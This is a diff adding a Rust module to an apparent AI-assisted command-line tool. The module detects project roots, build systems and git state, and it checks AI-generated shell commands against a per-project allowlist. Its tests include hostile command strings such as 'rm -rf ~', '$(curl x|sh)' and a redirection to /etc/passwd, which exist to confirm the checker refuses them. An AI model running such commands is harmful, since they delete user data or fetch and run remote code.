@@ -0,0 +1,464 @@
+use crate::system::probe::{self, Probe};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// Optional per-repository profile, read from the project root.
+pub const PROFILE_FILE: &str = ".vega.toml";
+
+/// Root files that identify a build system: (file, language, build system).
+const BUILD_MARKERS: &[(&str, &str, &str)] = &[
+    ("Cargo.toml", "Rust", "Cargo"),
+    ("package.json", "JavaScript", "npm"),
+    ("CMakeLists.txt", "C/C++", "CMake"),
+    ("Makefile", "", "Make"),
+    ("GNUmakefile", "", "Make"),
+    ("makefile", "", "Make"),
+    ("pyproject.toml", "Python", "pyproject"),
+    ("setup.py", "Python", "setuptools"),
+    ("requirements.txt", "Python", "pip"),
+];
+
+const CONTAINER_FILES: &[&str] = &[
+    "Dockerfile",
+    "Containerfile",
+    "compose.yaml",
+    "compose.yml",
+    "docker-compose.yaml",
+    "docker-compose.yml",
+];
+
+/// `.vega.toml`:
+///
+/// ```toml
+/// name = "doom-port"
+/// allowed_commands = ["cargo", "make", "git status"]
+///
+/// [remotes]
+/// assets = "gdrive:projects/doom/assets"
+///
+/// [hosts]
+/// builder = "ci@10.0.0.12"
+/// ```
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct ProjectProfile {
+    #[serde(default)]
+    pub name: Option<String>,
+    /// Alias -> rclone spec, usable like the global `[aliases]`.
+    #[serde(default)]
+    pub remotes: BTreeMap<String, String>,
+    /// Alias -> `user@host` for `vega connect <alias>` and the AI.
+    #[serde(default)]
+    pub hosts: BTreeMap<String, String>,
+    /// When set, AI-generated commands run in this project must start with one of these.
+    #[serde(default)]
+    pub allowed_commands: Vec<String>,
+}
+
+impl ProjectProfile {
+    pub fn parse(content: &str) -> Result<Self, String> {
+        toml::from_str(content).map_err(|e| format!("Invalid {}: {}", PROFILE_FILE, e))
+    }
+
+    /// Checks every step of a (possibly chained) command against `allowed_commands`.
+    /// The error names the first step that is not covered, or the shell construct
+    /// (`&`, `$(`, backticks, redirections, subshells) that keeps it from being checked.
+    pub fn check_command(&self, command: &str) -> Result<(), String> {
+        if self.allowed_commands.is_empty() {
+            return Ok(());
+        }
+        for words in shell_steps(command)? {
+            let words: Vec<&str> = words.iter().map(String::as_str).collect();
+            let words = match words.split_first() {
+                Some((&"sudo", rest)) => rest,
+                _ => &words[..],
+            };
+            if words.is_empty() {
+                continue;
+            }
+            let allowed = self.allowed_commands.iter().any(|entry| {
+                let entry: Vec<&str> = entry.split_whitespace().collect();
+                !entry.is_empty() && words.starts_with(&entry)
+            });
+            if !allowed {
+                return Err(words.join(" "));
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Splits a shell command into its simple commands (at `&&`, `||`, `;`, `|` and
+/// newlines), each as its unquoted words. Anything that would run text that is
+/// not one of those words is refused rather than guessed at.
+fn shell_steps(command: &str) -> Result<Vec<Vec<String>>, String> {
+    fn end_word(word: &mut String, in_word: &mut bool, words: &mut Vec<String>) {
+        if *in_word {
+            words.push(std::mem::take(word));
+            *in_word = false;
+        }
+    }
+    fn end_step(word: &mut String, in_word: &mut bool, words: &mut Vec<String>, steps: &mut Vec<Vec<String>>) {
+        end_word(word, in_word, words);
+        if !words.is_empty() {
+            steps.push(std::mem::take(words));
+        }
+    }
+
+    let mut steps = Vec::new();
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                in_word = true;
+                loop {
+                    match chars.next() {
+                        Some('\'') => break,
+                        Some(ch) => word.push(ch),
+                        None => return Err("unterminated quote".to_string()),
+                    }
+                }
+            }
+            '"' => {
+                in_word = true;
+                loop {
+                    match chars.next() {
+                        Some('"') => break,
+                        Some('\\') => match chars.next() {
+                            Some('\n') => {}
+                            Some(ch) => {
+                                if !"$`\"\\".contains(ch) {
+                                    word.push('\\');
+                                }
+                                word.push(ch);
+                            }
+                            None => return Err("unterminated quote".to_string()),
+                        },
+                        Some('`') => return Err("command substitution (`)".to_string()),
+                        Some('$') if chars.peek() == Some(&'(') => {
+                            return Err("command substitution ($()".to_string())
+                        }
+                        Some(ch) => word.push(ch),
+                        None => return Err("unterminated quote".to_string()),
+                    }
+                }
+            }
+            '\\' => match chars.next() {
+                Some('\n') | None => {}
+                Some(ch) => {
+                    in_word = true;
+                    word.push(ch);
+                }
+            },
+            '`' => return Err("command substitution (`)".to_string()),
+            '$' if chars.peek() == Some(&'(') => return Err("command substitution ($()".to_string()),
+            '<' | '>' => return Err(format!("redirection ({})", c)),
+            '(' | ')' => return Err("subshell".to_string()),
+            '&' if chars.peek() == Some(&'&') => {
+                chars.next();
+                end_step(&mut word, &mut in_word, &mut words, &mut steps);
+            }
+            '&' => return Err("background job (&)".to_string()),
+            '|' => {
+                if chars.peek() == Some(&'|') {
+                    chars.next();
+                }
+                end_step(&mut word, &mut in_word, &mut words, &mut steps);
+            }
+            ';' | '\n' => end_step(&mut word, &mut in_word, &mut words, &mut steps),
+            '#' if !in_word => {
+                while chars.peek().is_some_and(|&ch| ch != '\n') {
+                    chars.next();
+                }
+            }
+            c if c.is_whitespace() => end_word(&mut word, &mut in_word, &mut words),
+            c => {
+                in_word = true;
+                word.push(c);
+            }
+        }
+    }
+    end_step(&mut word, &mut in_word, &mut words, &mut steps);
+    Ok(steps)
+}
+
+/// The project a path belongs to, found without running git.
+#[derive(Debug, Clone)]
+pub struct ProjectRoot {
+    pub root: PathBuf,
+    pub name: String,
+    pub profile: ProjectProfile,
+}
+
+impl ProjectRoot {
+    /// Nearest ancestor holding `.git` or `.vega.toml`; otherwise `start` itself when it
+    /// has a build file. A dotfiles repository in `$HOME` does not make everything a project.
+    pub fn locate(start: &Path) -> Option<Self> {
+        let home = dirs::home_dir();
+        let root = start
+            .ancestors()
+            .find(|dir| {
+                probe::exists(dir.join(PROFILE_FILE))
+                    || (probe::exists(dir.join(".git")) && home.as_deref() != Some(*dir))
+            })
+            .map(Path::to_path_buf)
+            .or_else(|| {
+                let names = probe::read_dir_names(start).unwrap_or_default();
+                BUILD_MARKERS
+                    .iter()
+                    .any(|(file, _, _)| names.iter().any(|n| n == file))
+                    .then(|| start.to_path_buf())
+            })?;
+
+        let profile_path = root.join(PROFILE_FILE);
+        let profile = match probe::read_to_string(&profile_path) {
+            Ok(content) => match ProjectProfile::parse(&content) {
+                Ok(profile) => profile,
+                Err(e) => {
+                    warn_once(&format!("⚠️  Ignoring {}: {}", profile_path.display(), e));
+                    ProjectProfile::default()
+                }
+            },
+            Err(_) => ProjectProfile::default(),
+        };
+        let name = profile.name.clone().unwrap_or_else(|| {
+            root.file_name()
+                .map(|n| n.to_string_lossy().to_string())
+                .unwrap_or_else(|| root.to_string_lossy().to_string())
+        });
+        Some(ProjectRoot { root, name, profile })
+    }
+
+    pub fn current() -> Option<Self> {
+        std::env::current_dir().ok().and_then(|cwd| Self::locate(&cwd))
+    }
+}
+
+/// Name of the project the working directory belongs to, recorded on each task.
+pub fn current_name() -> Option<String> {
+    ProjectRoot::current().map(|p| p.name)
+}
+
+fn warn_once(message: &str) {
+    static WARNED: std::sync::Once = std::sync::Once::new();
+    WARNED.call_once(|| eprintln!("{}", message));
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct VcsState {
+    pub branch: String,
+    pub dirty_files: usize,
+}
+
+/// What VEGA knows about the repository it runs in.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ProjectInfo {
+    pub name: String,
+    pub root: String,
+    pub vcs: Option<VcsState>,
+    pub languages: Vec<String>,
+    pub build_systems: Vec<String>,
+    pub container_files: Vec<String>,
+    #[serde(default)]
+    pub profile: ProjectProfile,
+}
+
+impl ProjectInfo {
+    pub fn detect() -> Option<Self> {
+        std::env::current_dir().ok().and_then(|cwd| Self::detect_at(&cwd))
+    }
+
+    pub fn detect_at(start: &Path) -> Option<Self> {
+        let located = ProjectRoot::locate(start)?;
+        let names = probe::read_dir_names(&located.root).unwrap_or_default();
+        let has = |file: &str| names.iter().any(|n| n == file);
+
+        let mut languages: Vec<String> = Vec::new();
+        let mut build_systems: Vec<String> = Vec::new();
+        for (file, language, build) in BUILD_MARKERS {
+            if !has(file) {
+                continue;
+            }
+            let language = if *language == "JavaScript" && has("tsconfig.json") {
+                "TypeScript"
+            } else {
+                language
+            };
+            let build = if *build == "npm" && has("pnpm-lock.yaml") {
+                "pnpm"
+            } else if *build == "npm" && has("yarn.lock") {
+                "yarn"
+            } else {
+                build
+            };
+            if !language.is_empty() && !languages.iter().any(|l| l == language) {
+                languages.push(language.to_string());
+            }
+            if !build_systems.iter().any(|b| b == build) {
+                build_systems.push(build.to_string());
+            }
+        }
+        let container_files = CONTAINER_FILES
+            .iter()
+            .filter(|f| has(f))
+            .map(|f| f.to_string())
+            .collect();
+        let vcs = if probe::exists(located.root.join(".git")) {
+            Self::git_state(&located.root)
+        } else {
+            None
+        };
+
+        Some(ProjectInfo {
+            name: located.name,
+            root: located.root.to_string_lossy().to_string(),
+            vcs,
+            languages,
+            build_systems,
+            container_files,
+            profile: located.profile,
+        })
+    }
+
+    fn git_state(root: &Path) -> Option<VcsState> {
+        let root = root.to_string_lossy();
+        let git = |args: &[&str]| -> Option<String> {
+            let output = Probe::new("git").args(["-C", root.as_ref()]).args(args).output().ok()?;
+            if !output.status.success() {
+                return None;
+            }
+            Some(String::from_utf8_lossy(&output.stdout).trim().to_string())
+        };
+        let mut branch = git(&["branch", "--show-current"])?;
+        if branch.is_empty() {
+            branch = match git(&["rev-parse", "--short", "HEAD"]) {
+                Some(head) if !head.is_empty() => format!("detached at {}", head),
+                _ => "no commits yet".to_string(),
+            };
+        }
+        let dirty_files = git(&["status", "--porcelain"])
+            .map(|s| s.lines().filter(|l| !l.trim().is_empty()).count())
+            .unwrap_or(0);
+        Some(VcsState { branch, dirty_files })
+    }
+
+    /// Prompt lines, e.g. `- Git: branch main, 3 uncommitted files`.
+    pub fn describe(&self) -> String {
+        let mut lines = vec![format!("- Name: {} ({})", self.name, self.root)];
+        if let Some(vcs) = &self.vcs {
+            let state = match vcs.dirty_files {
+                0 => "clean".to_string(),
+                1 => "1 uncommitted file".to_string(),
+                n => format!("{} uncommitted files", n),
+            };
+            lines.push(format!("- Git: branch {}, {}", vcs.branch, state));
+        }
+        let list = |items: &[String]| if items.is_empty() { "unknown".to_string() } else { items.join(", ") };
+        lines.push(format!("- Languages: {}", list(&self.languages)));
+        lines.push(format!("- Build: {}", list(&self.build_systems)));
+        if !self.container_files.is_empty() {
+            lines.push(format!("- Container files: {}", self.container_files.join(", ")));
+        }
+        for (alias, spec) in &self.profile.remotes {
+            lines.push(format!("- Remote `{}`: {}", alias, spec));
+        }
+        for (alias, host) in &self.profile.hosts {
+            lines.push(format!("- Host `{}`: {}", alias, host));
+        }
+        if !self.profile.allowed_commands.is_empty() {
+            lines.push(format!("- Allowed commands: {}", self.profile.allowed_commands.join(", ")));
+        }
+        lines.join("\n")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::system::probe::{with_bundle, Bundle};
+
+    fn repo() -> Bundle {
+        let mut bundle = Bundle::new()
+            .with_file(
+                "/src/doom/.vega.toml",
+                "name = \"doom-port\"\nallowed_commands = [\"cargo\", \"make\", \"git status\"]\n\n[remotes]\nassets = \"gdrive:projects/doom\"\n\n[hosts]\nbuilder = \"ci@10.0.0.12\"\n",
+            )
+            .with_command("git", &["-C", "/src/doom", "branch", "--show-current"], "feature/net\n")
+            .with_command("git", &["-C", "/src/doom", "status", "--porcelain"], " M src/main.rs\n?? notes.txt\n");
+        bundle.exists.insert("/src/doom/.git".to_string(), true);
+        bundle.dirs.insert(
+            "/src/doom".to_string(),
+            Some(["Cargo.toml", "Makefile", "compose.yaml", "src"].iter().map(|s| s.to_string()).collect()),
+        );
+        bundle
+    }
+
+    #[test]
+    fn detects_repository_from_subdirectory() {
+        with_bundle(repo(), || {
+            let project = ProjectInfo::detect_at(Path::new("/src/doom/src/net")).unwrap();
+            assert_eq!(project.name, "doom-port");
+            assert_eq!(project.root, "/src/doom");
+            assert_eq!(
+                project.vcs,
+                Some(VcsState { branch: "feature/net".to_string(), dirty_files: 2 })
+            );
+            assert_eq!(project.languages, vec!["Rust"]);
+            assert_eq!(project.build_systems, vec!["Cargo", "Make"]);
+            assert_eq!(project.container_files, vec!["compose.yaml"]);
+            assert_eq!(project.profile.hosts["builder"], "ci@10.0.0.12");
+            assert_eq!(project.profile.remotes["assets"], "gdrive:projects/doom");
+        });
+    }
+
+    #[test]
+    fn build_file_without_vcs_marks_a_project() {
+        let mut bundle = Bundle::new();
+        bundle.dirs.insert(
+            "/tmp/webapp".to_string(),
+            Some(["package.json", "tsconfig.json", "yarn.lock"].iter().map(|s| s.to_string()).collect()),
+        );
+        with_bundle(bundle, || {
+            let project = ProjectInfo::detect_at(Path::new("/tmp/webapp")).unwrap();
+            assert_eq!(project.name, "webapp");
+            assert!(project.vcs.is_none());
+            assert_eq!(project.languages, vec!["TypeScript"]);
+            assert_eq!(project.build_systems, vec!["yarn"]);
+            assert!(ProjectInfo::detect_at(Path::new("/tmp")).is_none());
+        });
+    }
+
+    #[test]
+    fn allowed_commands_cover_every_step() {
+        let profile = ProjectProfile::parse("allowed_commands = [\"cargo\", \"git status\"]").unwrap();
+        assert!(profile.check_command("cargo build --release && git status").is_ok());
+        assert!(profile.check_command("sudo cargo install --path .").is_ok());
+        assert_eq!(profile.check_command("cargo test | tee log").unwrap_err(), "tee log");
+        assert_eq!(profile.check_command("git push").unwrap_err(), "git push");
+        assert_eq!(profile.check_command("cargox").unwrap_err(), "cargox");
+        assert!(ProjectProfile::default().check_command("rm -rf target").is_ok());
+    }
+
+    #[test]
+    fn shell_constructs_cannot_slip_past_allowed_commands() {
+        let profile = ProjectProfile::parse("allowed_commands = [\"cargo\", \"git status\"]").unwrap();
+        for command in [
+            "cargo build & rm -rf ~",
+            "cargo build $(curl x|sh)",
+            "git status `rm -rf ~`",
+            "cargo build \"$(id)\"",
+            "cargo build > /etc/passwd",
+            "cargo build; (rm -rf ~)",
+            "cargo build 'unterminated",
+        ] {
+            assert!(profile.check_command(command).is_err(), "{}", command);
+        }
+        assert_eq!(profile.check_command("cargo build|rm -rf ~").unwrap_err(), "rm -rf ~");
+        assert!(profile.check_command("'git' \"status\" -s").is_ok());
+        assert!(profile.check_command("cargo test -- '$(not run)' # done").is_ok());
+        assert_eq!(profile.check_command("git statusx").unwrap_err(), "git statusx");
+    }
+}